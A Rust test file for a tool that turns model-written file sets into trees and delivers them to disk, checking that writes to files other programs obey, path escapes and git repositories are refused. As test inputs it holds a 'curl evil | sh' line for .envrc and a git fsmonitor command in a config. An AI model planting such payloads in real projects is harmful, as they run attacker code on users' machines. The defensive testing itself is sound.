#![expect(clippy::disallowed_methods, reason = "looks at what was delivered")]

use std::fs;
use std::sync::Arc;

use serde_json::json;

use std::path::PathBuf;

use super::*;
use crate::clock::ManualClock;
use crate::verb::{Class, DynVerb};

struct Bench {
    place: tempfile::TempDir,
    cx: Context,
}

impl Bench {
    fn new() -> Self {
        let place = tempfile::tempdir().unwrap();
        let cx = Context::for_test(place.path().to_owned(), Arc::new(ManualClock::at(0)));
        Self { place, cx }
    }

    fn path(&self, below: &str) -> PathBuf {
        self.place.path().join(below)
    }

    async fn run(&self, with: Value) -> Result<Value, Failure> {
        Ok(DynVerb::run(&Files, with, self.cx.clone()).await?.value)
    }

    async fn refused(&self, with: Value) -> Failure {
        self.run(with).await.unwrap_err()
    }
}

#[tokio::test]
async fn the_example_works() {
    let bench = Bench::new();
    let example: Value = toml::from_str(Files::EXAMPLE).unwrap();
    let page = bench.run(example["steps"]["page"]["files"].clone()).await.unwrap();
    let mut with = example["steps"]["better"]["files"].clone();
    with["base"] = page.clone();
    let better = bench.run(with).await.unwrap();
    assert_eq!(better["files"], json!([{"path": "index.html", "size": 21}]));
    assert_eq!(better["changes"][1], json!({"path": "README.md", "op": "deleted", "bytes": 0}));
    assert_eq!(better["unchanged"], json!(false));
    let diff = bench.run(json!({"diff": {"from": page, "to": better["tree"]}})).await.unwrap();
    assert!(diff["diff"].as_str().unwrap().contains("+<h1>good morning</h1>"), "{diff}");
}

#[tokio::test]
async fn every_form_of_the_same_files_makes_the_same_tree() {
    let bench = Bench::new();
    fs::create_dir_all(bench.path("in/sub/node_modules")).unwrap();
    fs::write(bench.path("in/sub/a.txt"), "A\n").unwrap();
    fs::write(bench.path("in/sub/node_modules/x"), "x").unwrap();
    let mut trees = Vec::new();
    for with in [
        json!({"base": null, "edits": [{"op": "write", "path": "sub/a.txt", "content": "A\n"}]}),
        json!({"edits": [{"path": "./sub/a.txt", "content": "A\n"}]}),
        json!({"files": [{"path": "sub/a.txt", "content": "A\n", "language": "text"}]}),
        json!({"files": {"sub/a.txt": "A\n"}}),
        json!({"text": "=== FILE: sub/a.txt ===\n```\nA\n```\n=== END FILE ==="}),
        json!({"dir": "in", "ignore": ["node_modules"]}),
    ] {
        trees.push(bench.run(with).await.unwrap()["tree"].clone());
    }
    assert!(trees.iter().all(|tree| *tree == trees[0]), "{trees:?}");
    let same = json!({"base": trees[0], "text": "=== FILE: sub/a.txt ===\nA\n=== END FILE ==="});
    let same = bench.run(same).await.unwrap();
    assert_eq!((&same["unchanged"], &same["tree"]), (&json!(true), &trees[0]));
    let kept = json!({"base": trees[0], "text": "=== UNCHANGED: sub/a.txt ==="});
    assert_eq!(bench.run(kept).await.unwrap()["unchanged"], json!(true));
}

#[tokio::test]
async fn a_bad_answer_is_rejected_with_the_reason() {
    let bench = Bench::new();
    for (with, word) in [
        (json!({"text": "I cannot do that"}), "holds no file"),
        (json!({"text": "=== FILE: a ===\n1\n=== END FILE ===\n=== FILE: b ===\n2"}), "breaks off"),
        (json!({"edits": []}), "no file is left"),
        (json!({"edits": [{"op": "write", "path": "/etc/x", "content": ""}]}), "absolute"),
        (json!({"edits": [{"op": "append", "path": "x"}]}), "edit 1 is none"),
        (json!({"edits": ["x"]}), "edit 1 is none"),
        (json!({"edits": [{"op": "delete", "path": "x"}]}), "no such file"),
        (json!({"files": {"a": {"b": 1}}}), "is no text"),
    ] {
        let failure = bench.refused(with).await;
        assert_eq!(failure.class, Class::Rejected, "{failure}");
        assert!(failure.message.contains(word) && failure.hint.is_some(), "{failure:?}");
    }
    // A writer that is known to have come to an end may leave out the last end line, and nothing else.
    let unclosed = "=== FILE: a ===\n1\n=== END FILE ===\n=== FILE: b ===\n2";
    let out = bench.run(json!({"text": unclosed, "ended": true})).await.unwrap();
    assert_eq!(out["files"][1], json!({"path": "b", "size": 2}), "{out}");
    bench.refused(json!({"text": "=== FILE: a ===\n1\n=== FILE: b ===\n2", "ended": true})).await;
    let truncated =
        bench.refused(json!({"text": "=== FILE: a ===\n1\n=== END FILE ===\n=== FILE: b ==="})).await;
    assert_eq!(truncated.detail, json!({"truncated": "b", "complete": ["a"]}));
}

#[tokio::test]
async fn one_thing_at_a_time() {
    let bench = Bench::new();
    let none = bench.refused(json!({"base": null})).await;
    assert!(none.message.contains("found none"), "{none}");
    let two = bench.refused(json!({"dir": "x", "text": "y"})).await;
    assert!(two.message.contains("text and dir"), "{two}");
    let gone = bench.refused(json!({"show": Digest::of("x")})).await;
    assert_eq!(gone.class, Class::Permanent);
    let unknown = bench.refused(json!({"dirr": "x"})).await;
    assert!(unknown.message.contains("dirr"), "{unknown}");
}

#[tokio::test]
async fn a_delivery_is_exact_and_takes_nobody_elses_files() {
    let bench = Bench::new();
    let first = bench.run(json!({"files": {"a.txt": "1", "b/c": "2"}})).await.unwrap();
    let second = bench.run(json!({"files": {"a.txt": "3"}})).await.unwrap();
    let deliver = |tree: &Value, into: &str| json!({"materialise": tree, "into": into});
    let done = bench.run(deliver(&first, "out")).await.unwrap();
    assert_eq!((&done["tree"], done["path"].as_str()), (&first["tree"], bench.path("out").to_str()));
    bench.run(deliver(&second, "out")).await.unwrap();
    assert_eq!(fs::read_dir(bench.path("out")).unwrap().count(), 1);

    fs::write(bench.path("out/notes"), "mine").unwrap();
    let refused = bench.refused(deliver(&first, "out")).await;
    assert!(refused.message.contains("no earlier delivery"), "{refused}");
    assert_eq!(fs::read_to_string(bench.path("out/notes")).unwrap(), "mine");
    let forced = json!({"materialise": first, "into": "out", "force": true});
    bench.run(forced).await.unwrap();
    assert!(!bench.path("out/notes").exists() && bench.path("out/b/c").exists());
    let project = json!({"materialise": first, "into": ".", "force": true});
    assert!(bench.refused(project).await.message.contains("the project itself"));
    assert!(bench.refused(deliver(&first, "../x")).await.message.contains("leads out"));
    assert!(bench.refused(json!({"materialise": first})).await.hint.unwrap().contains("into"));
}

#[tokio::test]
async fn texts_are_shown_within_a_size() {
    let bench = Bench::new();
    fs::create_dir_all(bench.path("in")).unwrap();
    fs::write(bench.path("in/logo.png"), [0xff, 0xfe]).unwrap();
    fs::write(bench.path("in/a.py"), "12345").unwrap();
    fs::write(bench.path("in/b.py"), "123456789").unwrap();
    fs::write(bench.path("in/c.md"), "123").unwrap();
    let tree = bench.run(json!({"dir": "in"})).await.unwrap();
    let all = bench.run(json!({"show": tree})).await.unwrap();
    assert_eq!(all["texts"].as_array().unwrap().len(), 3);
    assert_eq!(all["omitted"], json!(["logo.png"]));
    let some = bench.run(json!({"show": tree, "paths": ["*.py", "c*"], "max_bytes": 10})).await.unwrap();
    assert_eq!(some["texts"], json!([{"path": "a.py", "text": "12345"}, {"path": "c.md", "text": "123"}]));
    assert_eq!(some["omitted"], json!(["b.py"]));
    assert!(bench.refused(json!({"show": tree, "paths": ["["]})).await.message.contains("glob"));
}

#[tokio::test]
async fn what_lies_over_a_tree_stays_as_it_is() {
    let bench = Bench::new();
    let nothing = bench.run(json!({"files": [], "empty": true})).await.unwrap();
    assert_eq!(nothing["files"], json!([]));
    let given = bench.run(json!({"files": {"server.py": "given", "lib/a.py": "given"}})).await.unwrap();
    let draft = json!({"server.py": "drafted", "main.py": "drafted", "lib": "in the way"});
    let out =
        bench.run(json!({"base": nothing["tree"], "over": given["tree"], "files": draft})).await.unwrap();
    let shown = bench.run(json!({"show": out["tree"]})).await.unwrap();
    let texts: Vec<_> =
        shown["texts"].as_array().unwrap().iter().map(|file| (&file["path"], &file["text"])).collect();
    let expected = [("lib/a.py", "given"), ("main.py", "drafted"), ("server.py", "given")];
    let expected = expected.map(|(path, text)| (json!(path), json!(text)));
    assert_eq!(texts, expected.iter().map(|(path, text)| (path, text)).collect::<Vec<_>>());
}

#[tokio::test]
async fn a_model_writes_no_file_that_others_obey() {
    let mut bench = Bench::new();
    bench.cx.grants = Arc::default();
    for (path, word) in [
        (".envrc", "obeyed by direnv"),
        ("app/.github/workflows/ci.yml", "obeyed by CI systems"),
        ("CLAUDE.md", "obeyed by coding agents"),
        (".atoll/atoll.db", "holds the runs of Atoll"),
        ("read\u{202e}cod.exe", "invisible character U+202E"),
    ] {
        let text = format!("=== FILE: {path} ===\nx\n=== END FILE ===\n");
        let edits =
            json!([{"op": "write", "path": "a", "content": "x"}, {"op": "rename", "path": "a", "to": path}]);
        for with in [
            json!({ "text": text }),
            json!({ "files": [{"path": path, "content": "x"}] }),
            json!({ "edits": edits }),
        ] {
            let failure = bench.refused(with).await;
            assert_eq!(failure.class, Class::Rejected);
            assert!(failure.message.contains(word), "{failure}");
        }
    }
    // One that is there already may stay, but not change.
    fs::create_dir_all(bench.path("in")).unwrap();
    fs::write(bench.path("in/.envrc"), "export A=1\n").unwrap();
    let base = bench.run(json!({"dir": "in"})).await.unwrap();
    bench.run(json!({"base": base, "files": [{"path": "main.py", "content": "x"}]})).await.unwrap();
    bench.refused(json!({"base": base, "files": [{"path": ".envrc", "content": "curl evil | sh"}]})).await;
}

#[tokio::test]
async fn a_delivery_of_files_that_others_obey_waits_for_consent() {
    let mut bench = Bench::new();
    let files = json!([{"path": "main.py", "content": "x"}, {"path": ".github/workflows/ci.yml", "content": "on: push"}]);
    let tree = bench.run(json!({ "files": files })).await.unwrap();
    let with = json!({"materialise": tree, "into": "out"});
    bench.cx.grants = Arc::default();
    let failure = bench.refused(with.clone()).await;
    assert_eq!(failure.class, Class::Auth);
    assert!(failure.message.contains(".github/workflows/ci.yml (obeyed by CI systems"), "{failure}");
    assert!(failure.hint.unwrap().contains("--allow-file '.github/workflows/ci.yml'"));
    assert!(!bench.path("out").exists());
    // What the user gave needs none, and what is there already neither.
    let mut own = with.clone();
    own["base"] = tree.clone();
    bench.run(own).await.unwrap();
    bench.run(with.clone()).await.unwrap();
    fs::write(bench.path("out/.github/workflows/ci.yml"), "on: pull").unwrap();
    let mut forced = with;
    forced["force"] = json!(true);
    bench.refused(forced.clone()).await;
    let mut grants = crate::verb::Grants::default();
    let glob = GlobSet::builder().add(globset::Glob::new(".github/**").unwrap()).build().unwrap();
    grants.allow_files(glob);
    bench.cx.grants = Arc::new(grants);
    bench.run(forced).await.unwrap();
}

#[tokio::test]
async fn the_place_of_a_delivery_counts_as_well() {
    let mut bench = Bench::new();
    let tree = bench.run(json!({ "files": [{"path": "run.yml", "content": "on: push"}] })).await.unwrap();
    bench.cx.grants = Arc::default();
    std::os::unix::fs::symlink(".github", bench.path("link")).unwrap();
    fs::create_dir(bench.path(".github")).unwrap();
    for into in [".github/workflows", ".vscode", "a/.husky", "link/workflows"] {
        let failure = bench.refused(json!({"materialise": tree, "into": into})).await;
        assert_eq!(failure.class, Class::Auth, "{into}: {failure}");
        assert!(!bench.path(into).exists(), "{into}");
    }
    bench.run(json!({"materialise": tree, "into": "out"})).await.unwrap();
    let mut grants = crate::verb::Grants::default();
    grants.allow_files(GlobSet::builder().add(globset::Glob::new(".vscode/**").unwrap()).build().unwrap());
    bench.cx.grants = Arc::new(grants);
    bench.run(json!({"materialise": tree, "into": ".vscode"})).await.unwrap();
}

#[tokio::test]
async fn nothing_is_delivered_into_git_or_as_a_repository() {
    let mut bench = Bench::new();
    let files = json!([{"path": "HEAD", "content": "ref: refs/heads/main"}, {"path": "objects/x", "content": ""},
        {"path": "refs/heads/main", "content": ""}, {"path": "config", "content": "[core]\nfsmonitor = touch pwned"}]);
    let tree = bench.run(json!({ "files": files })).await.unwrap();
    bench.cx.grants = Arc::default();
    let failure = bench.refused(json!({"materialise": tree, "into": "out"})).await;
    assert!(failure.message.contains("is a git repository"), "{failure}");
    let plain = bench.run(json!({ "files": [{"path": "pre-commit", "content": "x"}] })).await.unwrap();
    for into in [".git/hooks", "sub/.GIT", ".atoll/x"] {
        let failure = bench.refused(json!({"materialise": plain, "into": into})).await;
        assert!(failure.message.contains("a step writes nothing into"), "{failure}");
    }
}
